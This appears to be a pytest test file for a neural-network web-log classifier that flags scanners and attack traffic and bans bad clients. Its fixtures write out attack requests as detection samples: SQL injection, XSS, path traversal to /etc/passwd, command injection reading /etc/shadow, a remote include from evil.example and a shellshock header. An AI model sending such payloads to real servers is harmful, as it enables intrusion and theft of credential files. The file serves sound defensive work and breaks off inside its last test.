"""Web-log features, labels, client verdicts, training, classification, cross-validation and the CLI."""

from __future__ import annotations

import csv
import io
import json
import random
import re
from pathlib import Path

import numpy as np
import pytest

from nnscratch.cli import main
from nnscratch.io import ModelFileError
from nnscratch.weblogs.evidence.request import agent_class, path_shape, payload_evidence, referrer_class
from nnscratch.weblogs.features.counts import IDLE, ClientBook
from nnscratch.weblogs.features.featurizer import Context, Featurizer, request_tokens
from nnscratch.weblogs.features.summary import EXPLOIT_WEIGHT, FEATURES
from nnscratch.weblogs.labels.data import LabelledLines, split_by_client
from nnscratch.weblogs.labels.rules import RuleLabeler, normalise_label, read_label_file
from nnscratch.weblogs.lines.formats.combined import parse_line
from nnscratch.weblogs.lines.order import in_time_order
from nnscratch.weblogs.lines.reading import parse_stream
from nnscratch.weblogs.lines.record import LogRecord, client_of
from nnscratch.weblogs.model.clients import ClientModel, ClientSettings
from nnscratch.weblogs.model.crossval import Source, crossval, load_sources, read_manifest, rename_site
from nnscratch.weblogs.model.weblog import TrainSettings, WebLogModel, prepare
from nnscratch.weblogs.serve.classify import ClassifySettings, ClientTally, classify

FIREFOX = "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:50.0) Gecko/20100101 Firefox/50.0"
CHROME = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/77.0.1 Safari/537.36"
MANIFEST = "examples/shared_logs.json"


def line(target="/index.php?id=1&q=x", status=200, agent=CHROME, host="1.2.3.4", t=0, referrer="-",
         method="GET") -> str:  # fmt: skip
    return (f'{host} - - [01/Jan/2020:{t // 3600:02d}:{t // 60 % 60:02d}:{t % 60:02d} +0000] "{method} {target} '
            f'HTTP/1.1" {status} 10 "{referrer}" "{agent}"')  # fmt: skip


def record(*args, **kwargs) -> LogRecord:
    r = parse_line(line(*args, **kwargs))
    assert isinstance(r, LogRecord)
    return r


def test_evidence_describes_shape_not_vocabulary():
    assert set(path_shape("/DVWA/vulnerabilities/9dWDimSt.php")) >= {"depth:3", "ext:script", "seg:word",
                                                                     "last:random"}  # fmt: skip
    assert "ext:archive" in path_shape("/backup/site.sql") and "ext:config" in path_shape("/.env")
    assert "seg:uuid" in path_shape("/u/123e4567-e89b-12d3-a456-426614174000")
    assert "seg:number" in path_shape("/post/1234") and "seg:dotfile" in path_shape("/.git/config")
    # The grammar of each attack family, in the target decoded twice.
    families = {
        "/x.php?id=1%27%20union%20select%20pass%20from%20users": "pay:sqli",
        "/x?q=%253Cscript%253Ealert(1)%253C/script%253E": "pay:xss",
        "/download?file=../../../../etc/passwd": "pay:traversal",
        "/ping?host=127.0.0.1;cat%20/etc/shadow": "pay:command",
        "/index.php?page=http://evil.example/shell.txt?": "pay:include",
        "/wp-login.php": "probe:cms",
        "/.env": "probe:secret",
        "/backup/db.zip": "probe:backup",
        "/cgi-bin/test.cgi": "probe:exploit",
    }
    for target, family in families.items():
        assert family in payload_evidence(target), (target, payload_evidence(target))
    assert "enc:double" in payload_evidence("/x?q=%253Cscript") and "enc:null" in payload_evidence("/a%00.jpg")
    plain = payload_evidence("/blog/2015/05/hello-world.html?page=2")
    assert not [t for t in plain if t.startswith(("pay:", "probe:", "enc:"))]
    assert [agent_class(a) for a in (CHROME, "Googlebot/2.1 (+http://www.google.com/bot.html)", "curl/8.1",
                                     "sqlmap/1.7", "-", "Pingdom.com_bot", "Mozilla/4.0 (compatible)")] == [
        "browser", "crawler", "script", "attack-tool", "empty", "monitor", "malformed"]  # fmt: skip
    assert referrer_class("-") == "none" and referrer_class("https://a.example/x", {"a.example"}) == "same-site"
    assert referrer_class("https://b.example/") == "external" and referrer_class("() { :; }; /bin/sh") == "payload"


def test_request_tokens_leave_site_words_and_browser_versions_out_by_default():
    r = record("/shop/cart/checkout.php?id=12&name=bob", referrer="https://shop.example/x?y")
    tokens = set(request_tokens(r))
    assert {"m:GET", "s:200", "sc:2xx", "ext:script", "depth:3", "qkeys:<4", "qv:number", "ua:browser"} <= tokens
    assert not [t for t in tokens if "shop" in t or "checkout" in t or "77" in t or "Chrome" in t]
    with_paths = set(request_tokens(r, paths=True))
    assert {"p:/shop/cart/checkout.php", "pp:/shop", "pp:/shop/cart"} <= with_paths
    assert {"uap:Chrome", "uav:Chrome/77"} <= set(request_tokens(r, agent="tokens"))
    assert not [t for t in request_tokens(r, agent="off") if t.startswith("ua")]
    with pytest.raises(ValueError, match="agent must be one of"):
        Featurizer(agent="version")


def test_vocabulary_hashing_and_cache():
    lines = [record(f"/p{i % 3}/x") for i in range(30)] + [record("/rare.php?a=%27")]
    f = Featurizer(min_count=2, behaviour=False)
    tokens = [f.tokens(r) for r in lines]
    f.fit(tokens)
    assert "pay:sqli" not in f.vocabulary and "depth:2" in f.vocabulary
    X = f.transform(tokens)
    assert X.shape == (31, f.n_features) and set(np.unique(X.data)) == {1.0}
    assert f.cache_hit_rate == pytest.approx(27 / 31)
    assert np.array_equal(f.matrix([f.columns(r)[0] for r in lines]).toarray(), X.toarray())
    assert Featurizer(min_count=1, max_features=5).fit(tokens).n_features == 5
    h1, h2 = Featurizer(hashing=64), Featurizer(hashing=64)
    assert np.array_equal(h1.transform([h1.tokens(lines[0])]).toarray(), h2.transform([h2.tokens(lines[0])]).toarray())
    assert Featurizer.from_config(f.get_config()).vocabulary == f.vocabulary


def test_context_windows_site_evidence_and_referrer():
    featurizer = Featurizer(behaviour=True, window=60)
    context = featurizer.context
    tokens = [featurizer.tokens(record(f"/missing{i}", status=404, t=i)) for i in range(30)]
    last = set(tokens[-1])
    # Thermometer tokens: 30 requests in the window is "at least 2, 5 and 20", not 60.
    assert {"b:rate:>=2", "b:rate:>=5", "b:rate:>=20", "b:4xx:>=0.9", "b:paths:>=20", "b:noref:>=0.99"} <= last
    assert "b:rate:>=60" not in last and "b:static:>=0.01" not in last
    later = set(featurizer.tokens(record("/x", t=30 * 60)))  # the others have left the window
    assert "b:rate:>=2" not in later and "b:4xx:>=0.01" not in later and "b:span:>=10" not in later
    assert "b:span:>=10" in last and "b:span:>=60" not in last
    assert not [t for t in last if t.startswith("site:")]  # too few clients yet to know what is rare
    for k in range(25):  # many clients read /home; one asks for /admin.bak
        featurizer.tokens(record("/home", host=f"10.0.0.{k}", t=2000 + k))
    home = set(featurizer.tokens(record("/home", host="10.0.1.1", t=2100)))
    probe = set(featurizer.tokens(record("/admin.bak", status=404, host="10.0.1.2", t=2101)))
    assert {"site:warm", "site:clients:>=8"} <= home and "site:fails:>=0.01" not in home
    assert "site:clients:>=2" not in probe and "site:fails:>=0.9" in probe
    for k in range(3):  # pages of this site refer to each other: the host is learnt as the site's
        featurizer.tokens(record("/about", host=f"10.0.2.{k}", t=2200 + k, referrer="https://my.site/home"))
    assert "my.site" in context.site_hosts
    assert "ref:same-site" in featurizer.tokens(record("/", t=2300, referrer="https://my.site/"))
    assert "ref:external" in featurizer.tokens(record("/", t=2301, referrer="https://search.example/?q=a"))
    session = parse_line('- - [01/Jan/2020:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" abc "x"')
    assert client_of(session) == "abc" and client_of(record()) == "1.2.3.4"
    book = featurizer.points.book  # the windows are the clients' own tallies, freed with them
    assert book.clients["10.0.2.1"].window.entries and isinstance(context, Context)
    book.finished(10**10)
    assert not book.clients


def test_in_time_order_holds_back_only_the_slack():
    times = [0, 5, 3, 10, 8, 400, 2, 401]
    assert list(in_time_order(times, float, slack=300)) == [0, 3, 5, 8, 10, 2, 400, 401]
    assert list(in_time_order(times, float, slack=1e9)) == sorted(times)


def test_labels_and_label_files(tmp_path):
    assert [normalise_label(x) for x in ("human", "moderate_bot", "gray", "unknown")] == ["good", "bad", "gray", None]
    rules = RuleLabeler()
    assert rules.line_rule(record("/wp-login.php"))[1] == "R1a"
    assert rules.line_rule(record(method="PROPFIND"))[1] == "R1b"
    assert rules.line_rule(record(agent="sqlmap/1.0"))[1] == "R2a"
    assert rules.line_rule(record(agent="Googlebot/2.1 (+http://www.google.com/bot.html)")) == ("gray", "R3")
    assert rules.line_rule(record()) == ("good", "R0")
    burst = [record(f"/missing{i}", status=404, t=i * 10) for i in range(25)]
    assert {lab for lab, _ in rules.label(burst)} == {"bad"}
    (tmp_path / "s.tsv").write_text("session_id\tlabel\tfile\nabc\thuman\tweb.log\n")
    assert read_label_file(tmp_path / "s.tsv") == ("session", {"abc": "good"}, {"web.log"})
    (tmp_path / "l.tsv").write_text("file\tline\tlabel\na.log\t3\tbad\n")
    assert read_label_file(tmp_path / "l.tsv") == ("line", {("a.log", 3): "bad"}, {"a.log"})
    # A session file leaves its file's session-less lines unknown, even with --rules.
    web = tmp_path / "web.log"
    web.write_text('- - [01/Jan/2020:00:00:00 +0000] "GET /wp-login.php HTTP/1.1" 200 1 "-" abc "x"\n'
                   '- - [01/Jan/2020:00:00:01 +0000] "GET /wp-login.php HTTP/1.1" 200 1 "-" - "x"\n')  # fmt: skip
    data = LabelledLines.gather(logs=[str(web)], label_files=[str(tmp_path / "s.tsv")], rules=RuleLabeler())
    assert data.labels == ["good", None] and data.sources[0] == "truth:session"
    # A per-line file overrides a class file, and can say "unknown" (the operator's browser in a scan).
    scan = tmp_path / "scan.log"
    scan.write_text("\n".join([line("/a"), line("/b"), line("/c", agent=FIREFOX)]) + "\n")
    (tmp_path / "x.tsv").write_text("file\tline\tlabel\nscan.log\t2\tunknown\n")
    assert LabelledLines.gather(bad=[str(scan)], label_files=[str(tmp_path / "x.tsv")]).labels == ["bad", None, "bad"]
    assert LabelledLines.gather(bad=[str(scan)], unknown_agent="Firefox/").labels == ["bad", "bad", None]
    gray = LabelledLines.gather(logs=[str(scan)], rules=RuleLabeler(), gray_as="drop")
    assert gray.labels == ["good", "good", "good"]


def test_rule_counts_match_the_data_readme(logs):
    expected = {  # bad / gray / good per file, from the shared README's table
        "elastic_apache_2015-05-17_18.log": (32, 1558, 2935),
        "almhuette_2019-10-14_16.log": (2858, 212, 960),
        "secrepo_access_2021-10-22.log": (230, 217, 197),
    }
    for name, (bad, gray, good) in expected.items():
        labels = [lab for lab, _ in RuleLabeler().label(r for _, _, r in parse_stream([logs / name]))]
        assert (labels.count("bad"), labels.count("gray"), labels.count("good")) == (bad, gray, good), name
    humans = RuleLabeler().label(r for _, _, r in parse_stream([logs / "webbot_humans_2019-10-28.log"]))
    assert sum(rule == "R6" for _, rule in humans) == 985  # the README's warning about the rate rule


def test_split_by_client_never_shares_a_client():
    rng = np.random.default_rng(0)
    clients = [f"c{rng.integers(0, 40)}" for _ in range(2000)]
    groups = ["a" if int(c[1:]) % 2 else "b" for c in clients]
    parts = split_by_client(clients, groups, (0.6, 0.2, 0.2), seed=1)
    seen = [{clients[i] for i in part} for part in parts]
    assert not (seen[0] & seen[1] or seen[0] & seen[2] or seen[1] & seen[2])
    assert sorted(np.concatenate(parts).tolist()) == list(range(2000))
    assert [round(len(p) / 2000, 1) for p in parts] == [0.6, 0.2, 0.2]
    # One client with 68% of the lines (a brute force) and 249 small ones: no part is left empty.
    clients = ["big"] * 680 + [f"c{i % 249}" for i in range(320)]
    parts = split_by_client(clients, ["almhuette"] * 1000, (0.6, 0.2, 0.2), seed=3)
    assert min(len(p) for p in parts) > 50 and sum(len(p) for p in parts) == 1000


def test_client_tally_bans_n_bad_within_x_minutes():
    tally = ClientTally(threshold=5, minutes=1)
    for i in range(5):
        tally.add("slow", i * 30.0, True)  # 5 bad, but never more than 2 within a minute
        tally.add("fast", i * 5.0, True)
        tally.add("good", i * 5.0, False)
    banned = {v.client: v for v in tally.verdicts() if v.ban}
    assert set(banned) == {"fast"} and banned["fast"].bad_lines == 5
    tally.forget_idle(10_000.0)
    assert set(tally.state) == {"fast"}  # banned clients are kept


def _client(book: ClientBook, name: str, n: int, gap: float, path: str, status: int = 200, static_every: int = 0):
    f = Featurizer(behaviour=False)
    for i in range(n):
        target = "/style.css" if static_every and i % static_every == 0 else path.format(i=i)
        r = record(target, status=status, host=name, t=int(i * gap))
        book.add(r, f.tokens_and_facts(r)[1])


def test_client_model_needs_probability_and_evidence():
    book = ClientBook(idle=float("inf"))
    for k in range(12):  # people: pages with their assets, a few seconds apart
        _client(book, f"person{k}", 20 + k, 7.0, "/page{i}", static_every=3)
    for k in range(12):  # scanners: many missing paths, fast
        _client(book, f"scanner{k}", 20 + k, 0.5, "/probe{i}.php", status=404)  # as many requests
    _client(book, "brief-scanner", 2, 0.5, "/probe{i}.php", status=404)
    states = dict(book.drain())
    names = sorted(n for n in states if n != "brief-scanner")
    X = np.stack([ClientBook.features(states[n]) for n in names])
    assert X.shape == (24, len(FEATURES))
    y = np.array([n.startswith("scanner") for n in names], dtype=int)
    model = ClientModel.fit(X, y, names, settings=ClientSettings(members=1, epochs=200))
    assert model.threshold == 0.5  # one network: nothing held out to calibrate on, the floor
    verdicts = {v.client: v for v in model.verdicts(sorted(states.items()))}
    assert all(verdicts[n].ban == n.startswith("scanner") for n in names)
    # A threshold the brief scanner's P(bad) reaches: still not banned, for want of evidence.
    model.threshold = min(model.threshold, float(model.probability(ClientBook.features(states["brief-scanner"]))[0]))
    brief = {v.client: v for v in model.verdicts(sorted(states.items()))}["brief-scanner"]
    assert brief.probability is None and not brief.ban and "evidence 2 below 5" in brief.reason
    with pytest.raises(ValueError, match="bad and not-bad"):
        ClientModel.fit(X, np.zeros(24, dtype=int), names)


def test_one_exploit_request_is_evidence_enough_and_a_404_is_not():
    """A request with unambiguous exploit evidence counts ``EXPLOIT_WEIGHT`` (5) towards
    ``min_evidence``: one ``eval-stdin.php`` or ``/.env`` grab can be judged; one 404 cannot."""
    f = Featurizer()
    book = ClientBook()
    targets = {
        "rce": "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "env": "/.env",
        "git": "/.git/config",
        "shell": "/uploads/shell.php",
        "passwd": "/a/../../etc/passwd",
        "miss": "/no-such-page",
        "cms": "/wp-login.php",
        "blog": "/blog/tags/shell?page=1",
        "joomla": "/administrator/index.php",
    }
    for host, target in targets.items():
        r = record(target, status=404, host=host)
        book.add(r, f.tokens_and_facts(r)[1])
    evidence = {c: s.evidence for c, s in book.clients.items()}
    one_shot = {"rce", "env", "git", "shell", "passwd"}
    assert evidence == {c: EXPLOIT_WEIGHT if c in one_shot else 1 for c in targets}


def test_the_ban_threshold_is_chosen_on_held_out_clients_for_the_target_rate():
    """Cross-fitting: each good client's peak P(bad) over its judged rows comes from the network
    that never saw it, and the threshold sits just above the peaks that the target rate does not
    allow, in every file (here 1% of 50 good clients: none)."""
    rng = np.random.default_rng(0)
    n = 100
    X = rng.normal(size=(n, len(FEATURES)))
    y = (np.arange(n) >= 50).astype(int)
    X[y == 1, FEATURES.index("flagged_share")] += 1.5  # overlapping classes: some good clients look bad
    groups = [f"c{i}" for i in range(n)]
    model = ClientModel.fit(X, y, groups, files=["a.log"] * n, settings=ClientSettings(members=5, epochs=100))
    assert len(model.networks) == 5 and 0.5 < model.threshold <= 1.0  # some good clients look bad
    # Recompute the held-out peaks the way fit deals its folds, and check the threshold clears them.
    from nnscratch.weblogs.model.clients import calibrate

    p = rng.uniform(size=n)
    client = np.arange(n)
    t = calibrate(p, y, client, np.ones(n, dtype=bool), ["a.log"] * 50 + ["b.log"] * 50, 0.01, 0.5)
    assert t > p[(y == 0)].max() and t == np.nextafter(p[y == 0].max(), 2.0)
    loose = calibrate(p, y, client, np.ones(n, dtype=bool), None, 0.1, 0.5)  # 5 of 50 allowed
    assert loose == max(0.5, np.nextafter(np.sort(p[y == 0])[::-1][5], 2.0))


@pytest.fixture(scope="module")
def shared(logs):
    sources, gray_as = read_manifest(MANIFEST, logs)
    return sources, gray_as


def test_manifest_names_every_shared_file_and_its_labels(shared, tmp_path):
    sources, gray_as = shared
    assert gray_as == "bad" and [s.name for s in sources] == ["w3af", "webbot", "elastic", "almhuette", "secrepo"]
    named = {Path(f).name for s in sources for f in s.good + s.bad + s.gray + s.logs + s.labels}
    shared_files = {f.name for f in Path(sources[0].bad[0]).parent.iterdir() if f.suffix in (".log", ".tsv")}
    assert named == shared_files  # every shared log and label file, and nothing else
    data, names = load_sources([s for s in sources if s.name == "w3af"], gray_as)
    assert len(data.records) == 3996 and data.labels.count("bad") == 3926 and data.labels.count(None) == 70
    (tmp_path / "m.json").write_text('{"sources": [{"name": "a", "bad": ["nope.log"]}]}')
    with pytest.raises(FileNotFoundError, match="nope.log"):
        read_manifest(tmp_path / "m.json", tmp_path)
    (tmp_path / "m.json").write_text('{"sources": [{"name": "a", "bda": ["x.log"]}]}')
    with pytest.raises(ValueError, match="only the keys"):
        read_manifest(tmp_path / "m.json", tmp_path)


def test_rename_site_keeps_structure_and_payloads():
    records = [record("/shop/item/12.php?id=1%27--", referrer="https://shop.example/shop/list"),
               record("/shop/list"), record("/a%2e%2e/x")]  # fmt: skip
    renamed = rename_site(records, seed=3)
    first, second, third = renamed
    assert first.target.endswith("/12.php?id=1%27--") and "shop" not in first.target
    assert first.target.split("/")[1] == second.target.split("/")[1]  # one word, one mapping
    assert "shop" not in first.referrer and first.referrer.endswith(second.target)
    assert third.target == "/a%2e%2e/" + third.target.rsplit("/", 1)[1] and first.request.startswith("GET /")
    assert payload_evidence(first.target) == payload_evidence(records[0].target)


@pytest.mark.slow
def test_unseen_scanner_is_caught_on_its_own_site_and_a_renamed_one(shared):
    """Leave the w3af scan out of training (no scanner in training at all): its lines
    and both its clients come out bad, and renaming the scanned site's hosts and
    paths changes line recall by at most 0.05."""
    sources, gray_as = shared
    subset = [s for s in sources if s.name in ("w3af", "almhuette", "secrepo")]
    result = crossval(subset, gray_as=gray_as, seeds=[0], settings=TrainSettings(restarts=1, epochs=6))
    w3af = {run["renamed"]: run for run in result["runs"] if run["source"] == "w3af"}
    assert w3af[False]["recall"] >= 0.85 and w3af[False]["ban_recall"] == 1.0
    assert abs(w3af[True]["recall"] - w3af[False]["recall"]) <= 0.05
    assert w3af[False]["bad_clients"] == 2


@pytest.fixture(scope="module")
def trained(shared):
    sources, gray_as = shared
    data, _ = load_sources([s for s in sources if s.name in ("webbot", "secrepo", "w3af")], gray_as)
    return data, WebLogModel.train(
        data, featurizer=Featurizer(behaviour=True), settings=TrainSettings(restarts=1, epochs=6)
    )


def test_train_save_load_and_the_client_model(trained, tmp_path):
    data, (model, report, info) = trained
    assert model.client_model is not None and info["lines"]["train"] > info["lines"]["test"] > 0
    assert report.clients.n > 0 and report.line_only is not None
    # Pooled (as crossval reports a source): one section over every labelled line, whatever its label source.
    test = np.arange(len(data.records))
    pooled = model.judge(prepare(model.featurizer, data), test).report(pooled=True)
    assert list(pooled.sections) == ["all"]
    assert pooled.sections["all"].n == sum(lab is not None for lab in data.labels)
    assert not [t for t in model.featurizer.vocabulary if t.startswith(("p:", "uap:", "uav:", "ref:host"))]
    path = tmp_path / "m.safetensors"
    model.save(path)
    loaded = WebLogModel.load(path)
    assert loaded.classes == model.classes and loaded.featurizer.vocabulary == model.featurizer.vocabulary
    X = np.stack([ClientBook.features(s) for s in list(prepare(model.featurizer, data).summaries.values())[:20]])
    np.testing.assert_array_equal(model.client_model.probability(X), loaded.client_model.probability(X))
    sample = data.records[:50]
    model.featurizer.reset_context()
    np.testing.assert_array_equal(model.predict_proba(sample), loaded.predict_proba(sample))


def test_the_client_ensemble_is_saved_through_state_dict(trained, tmp_path):
    """Each client network's tensors are ``client.K.`` + its ``state_dict`` names, beside the
    standardisation; the file rules bit for bit as the model did."""
    from nnscratch import io as model_io

    data, (model, _, _) = trained
    new = tmp_path / "new.safetensors"
    model.save(new)
    _, _, arrays = model_io.read_model(new)
    networks = model.client_model.networks
    assert len(networks) == 5
    names = {f"client.{k}.{n}" for k, network in enumerate(networks)
             for n in network.state_dict(include_optimizer=False)["parameters"]}  # fmt: skip
    assert {n for n in arrays if n.startswith("client.")} == names | {"client.mean", "client.scale"}
    loaded = WebLogModel.load(new)
    X = np.stack([ClientBook.features(s) for s in list(prepare(model.featurizer, data).summaries.values())[:20]])
    np.testing.assert_array_equal(loaded.client_model.probability(X), model.client_model.probability(X))
    assert loaded.client_model.threshold == model.client_model.threshold


def test_old_model_files_are_refused_with_a_way_out(trained, tmp_path):
    from nnscratch import io as model_io

    _, (model, _, _) = trained
    extra = {"kind": "nnscratch.weblogs", "classes": model.classes, "featurizer": {"user_agent": True}}
    model_io.save(model.network, tmp_path / "old.safetensors", include_optimizer=False, extra=extra)
    with pytest.raises(ModelFileError, match="feature version 1.*Retrain"):
        WebLogModel.load(tmp_path / "old.safetensors")


def test_classify_and_evaluate_agree_on_lines_out_of_time_order(trained, logs, tmp_path):
    """Lines shuffled within a minute (as a busy server logs them) give the same labels in
    classify and evaluate, and the same as the file in order: windows follow time stamps."""
    _, (model, _, _) = trained
    text = (logs / "secrepo_access_2021-10-22.log").read_text().splitlines()
    ordered = sorted(text, key=lambda r: parse_line(r).time)
    rng = random.Random(0)
    shuffled = sorted(ordered, key=lambda r: parse_line(r).time + rng.uniform(0, 60))
    assert shuffled != ordered
    labels = {}
    for name, rows in (("ordered", ordered), ("shuffled", shuffled)):
        path = tmp_path / f"{name}.log"
        path.write_text("\n".join(rows) + "\n")
        out = io.StringIO()
        model.featurizer.reset_context()
        classify(model, [str(path)], out)
        by_number = {int(row.split(",")[1]): row.split(",")[4] for row in out.getvalue().splitlines()[1:]}
        data = LabelledLines.gather(logs=[str(path)], rules=RuleLabeler(), gray_as="bad")
        judged = model.judge(prepare(model.featurizer, data), np.arange(len(data.records)))
        assert {data.numbers[i]: judged.predicted[i] for i in range(len(rows))} == by_number
        labels[name] = sorted((rows[number - 1], label) for number, label in by_number.items())
    assert labels["ordered"] == labels["shuffled"]


def test_classify_judges_clients_with_the_model_and_streams_in_chunks(trained, logs):
    _, (model, _, _) = trained
    verdicts = []
    n, counts = classify(model, [str(logs / "scanner_w3af_2016-12-22.log")], None, on_verdict=verdicts.append,
                         settings=ClassifySettings(chunk=500))  # fmt: skip
    assert n == 3996 and sum(counts.values()) == 3996
    banned = {v.client for v in verdicts if v.ban}
    assert {"192.168.4.163", "192.168.1.20"} <= banned and len({v.client for v in verdicts}) == 3
    # One verdict per visit: a client back after 30 idle minutes of log time is judged afresh.
    for client in {v.client for v in verdicts}:
        visits = sorted((v.first_seen, v.last_seen) for v in verdicts if v.client == client)
        assert all(later[0] - earlier[1] > IDLE for earlier, later in zip(visits, visits[1:], strict=False))
    assert sum(v.requests for v in verdicts) == 3996


def test_parallel_classify_writes_exactly_what_serial_does(logs):
    data = LabelledLines.gather(logs=[str(logs / "secrepo_access_2021-10-22.log")], rules=RuleLabeler(), gray_as="bad")
    model, _, _ = WebLogModel.train(
        data, featurizer=Featurizer(behaviour=True), settings=TrainSettings(restarts=1, epochs=3)
    )  # context: state across chunks
    outputs, verdicts = [], []
    for workers in (0, 1):
        out, found = io.StringIO(), []
        n, _ = classify(model, [str(logs / "secrepo_access_2021-10-22.log")], out, on_verdict=found.append,
                        settings=ClassifySettings(chunk=100, workers=workers))  # fmt: skip
        outputs.append(sorted(out.getvalue().splitlines()))
        verdicts.append(sorted(((v.client, v.ban, v.probability and round(v.probability, 6)) for v in found), key=str))
    assert n == 644 and outputs[0] == outputs[1] and verdicts[0] == verdicts[1]


def test_truncated_svd_projection_is_saved_and_applied(logs, tmp_path):
    data = LabelledLines.gather(logs=[str(logs / "secrepo_access_2021-10-22.log")], rules=RuleLabeler(), gray_as="bad")
    model, report, info = WebLogModel.train(data, settings=TrainSettings(svd=16, restarts=1, epochs=5))
    assert info["inputs"] == 16 and model.projection.shape == (info["features"], 16)
    model.save(tmp_path / "svd.safetensors")
    loaded = WebLogModel.load(tmp_path / "svd.safetensors")
    np.testing.assert_array_equal(loaded.projection, model.projection)
    model.featurizer.reset_context()
    np.testing.assert_array_equal(loaded.predict_proba(data.records[:40]), model.predict_proba(data.records[:40]))
    assert report.f1("rule-labelled", "bad") is not None


def test_per_line_label_files_round_trip(logs, tmp_path):
    log = str(logs / "secrepo_access_2021-10-22.log")
    labels = tmp_path / "labels.tsv"
    assert main(["logs", "label", log, "-o", str(labels)]) == 0
    from_file = LabelledLines.gather(logs=[log], label_files=[str(labels)])
    from_rules = LabelledLines.gather(logs=[log], rules=RuleLabeler())
    assert from_file.labels == from_rules.labels and None not in from_file.labels
    dropped = tmp_path / "dropped.tsv"
    assert main(["logs", "label", log, "-o", str(dropped), "--gray-as", "drop"]) == 0
    rows = dropped.read_text().splitlines()
    assert len(rows) == 1 + 644 - 217 and not [r for r in rows if "\tgray\t" in r]


def test_cli_train_classify_evaluate_crossval(logs, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("NNSCRATCH_DATA", str(logs.parent))
    manifest = tmp_path / "small.json"
    manifest.write_text(json.dumps({"gray_as": "bad", "sources": [
        {"name": "w3af", "bad": ["scanner_w3af_2016-12-22.log"], "unknown_agent": "Firefox/"},
        {"name": "secrepo", "logs": ["secrepo_access_2021-10-22.log"], "rules": True}]}))  # fmt: skip
    model = tmp_path / "m.safetensors"
    assert main(["logs", "train", "--manifest", str(manifest), "--restarts", "1", "--epochs", "4", "--quiet",
                 "-o", str(model)]) == 0  # fmt: skip
    out = capsys.readouterr().out
    assert "client model: ClientModel(" in out and "Model saved to" in out and "clients:" in out
    lines_out, ban_list, ban_json = tmp_path / "out.jsonl", tmp_path / "ban.txt", tmp_path / "ban.json"
    ban_csv = tmp_path / "ban.csv"
    assert main(["logs", "classify", str(model), str(logs / "scanner_w3af_2016-12-22.log"), "-o", str(lines_out),
                 "--output-format", "jsonl", "--ban-list", str(ban_list), "--ban-json", str(ban_json),
                 "--ban-csv", str(ban_csv)]) == 0  # fmt: skip
    err = capsys.readouterr().err
    assert re.search(r"3,996 lines in [\d.]+ s", err) and "client model, P(bad) >= " in err and "evidence >= 5" in err
    assert re.search(r"192\.168\.\d+\.\d+: P\(bad\)=[\d.]+ at request \d+ \(2016-12-2\d \d\d:\d\d:\d\d UTC\)", err)
    rows = list(csv.DictReader(ban_csv.open()))
    assert {r["client"] for r in rows} == {b["client"] for b in json.loads(ban_json.read_text())}
    for r, b in zip(rows, json.loads(ban_json.read_text()), strict=True):  # same order: most certain first
        assert int(r["ban_request"]) == b["ban_request"] >= 5 and float(r["p_bad"]) >= 0.8
        assert r["ban_time_utc"].startswith("2016-12-2") and float(r["ban_time"]) == b["ban_time"]
    first = json.loads(lines_out.read_text().splitlines()[0])
    assert set(first) == {"file", "line", "client", "time", "label", "p"} and abs(sum(first["p"].values()) - 1) < 1e-4
    banned = json.loads(ban_json.read_text())
    assert {b["client"] for b in banned} >= {"192.168.4.163"} and all(b["ban"] for b in banned)
    assert ban_list.read_text().split() == [b["client"] for b in banned]
    with pytest.raises(SystemExit) as stop:  # --format names the log format; the old spelling is told where to go
        main(["logs", "classify", str(model), str(logs / "secrepo_access_2021-10-22.log"), "--format", "jsonl"])
    assert stop.value.code == 2 and "use --output-format jsonl" in capsys.readouterr().err
    assert main(["logs", "classify", str(model), str(logs / "scanner_w3af_2016-12-22.log"), "-o", str(lines_out),
                 "--ban-rule", "count", "--ban-count", "20"]) == 0  # fmt: skip
    assert ">= 20 bad lines within 10 minutes" in capsys.readouterr().err
    assert main(["logs", "evaluate", str(model), str(logs / "secrepo_access_2021-10-22.log"), "--rules",
                 "--gray-as", "bad", "--ban-threshold", "0.9"]) == 0  # fmt: skip
    assert "rule-labelled:" in capsys.readouterr().out
    markdown = tmp_path / "cv.md"
    assert main(["logs", "crossval", "--manifest", str(manifest), "--seeds", "0", "1", "--epochs", "3", "--quiet",
                 "--no-rename", "--markdown", str(markdown)]) == 0  # fmt: skip
    table = markdown.read_text()
    assert "| leave-one-source-out | w3af | as is | 3,926 |" in table and "Seeds [0, 1]" in table
    # Left out, secrepo leaves only the scan to train on: one class, said so in the table.
    assert re.search(r"\| leave-one-source-out \| secrepo \| .*cannot train: .*only \['bad'\]", table)
    assert main(["logs", "train", str(logs / "secrepo_access_2021-10-22.log"), "-o", str(model)]) == 2
    assert "LOG files need labels" in capsys.readouterr().err
    assert main(["logs", "train", "--manifest", str(manifest), "--rules"]) == 2
    assert "give it alone" in capsys.readouterr().err


def test_a_disguised_scanner_is_caught_by_what_it_requests(logs, tmp_path):
    """Train with every scanner line's user agent replaced by a browser's (and the
    exact user-agent tokens on), so no attack-tool class or 'w3af' token exists;
    the later half of the scan (other pages, other payloads) still comes out bad."""
    rows = (logs / "scanner_w3af_2016-12-22.log").read_text(errors="replace").splitlines()
    rows = sorted((r.replace('"w3af.org"', f'"{FIREFOX}"') for r in rows), key=lambda r: parse_line(r).time)
    half = len(rows) // 2
    train_file, test_file = tmp_path / "train.log", tmp_path / "test.log"
    train_file.write_text("\n".join(rows[:half]) + "\n")
    test_file.write_text("\n".join(rows[half:]) + "\n")
    data = LabelledLines.gather(bad=[str(train_file)], logs=[str(logs / "elastic_apache_2015-05-17_18.log")],
                                rules=RuleLabeler(), gray_as="drop")  # fmt: skip
    model, _, _ = WebLogModel.train(
        data,
        featurizer=Featurizer(agent="tokens"),
        settings=TrainSettings(restarts=1, epochs=10),
        fractions=(0.8, 0.1, 0.1),
    )
    assert not [t for t in model.featurizer.vocabulary if "w3af" in t or "attack-tool" in t]
    model.featurizer.reset_context()
    test_records = [r for _, _, r in parse_stream([test_file])]
    predicted = np.array(model.classes)[model.labels(model.predict_proba(test_records))]
    assert len(test_records) > 1000
    assert np.mean(predicted == "bad") >= 0.8, np.mean(predicted == "bad")


def test_sources_as_objects():
    source = Source("x", [], ["a.log"], [], [], [])
    assert source.folds == 0 and not source.rules


def test_one_registry_of_feature_families_drives_the_options_the_config_and_the_ablation(capsys):
    import argparse

    from nnscratch.weblogs.features.families import (
        FAMILIES,
        ablation,
        add_family_options,
        default_settings,
        family_settings,
    )

